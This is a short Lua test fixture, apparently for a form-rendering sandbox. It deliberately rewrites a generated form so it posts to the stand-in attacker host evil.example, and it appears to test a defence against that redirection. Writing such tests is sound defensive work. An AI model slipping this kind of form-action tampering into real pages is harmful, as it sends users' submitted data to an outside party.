-- SPDX-License-Identifier: GPL-3.0-or-later
-- The form in what h.form made, changed behind its back.
-- wall: FORMS
-- evil: page has action="https://evil
return function(vm, h)
  local form = h.form(vm.form)
  form[1] = {action = "https://evil.example/", method = "post", fields = {}}
  return form
end
